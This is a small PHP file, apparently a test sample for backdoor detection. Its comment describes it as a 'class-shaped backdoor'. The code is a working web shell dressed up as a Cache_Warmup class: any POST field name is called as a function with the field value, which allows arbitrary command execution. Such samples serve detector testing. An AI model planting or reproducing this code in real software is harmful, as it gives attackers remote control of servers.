<?php
// a class-shaped backdoor: a method calls its first parameter with its second, and the
// posted field names and values are handed to it (written for the tests, never run)
class Cache_Warmup
{
    public function warm($step, $arg)
    {
        return $step($arg);
    }
}
$w = new Cache_Warmup();
foreach ($_POST as $step => $arg) {
    echo $w->warm($step, $arg);
}
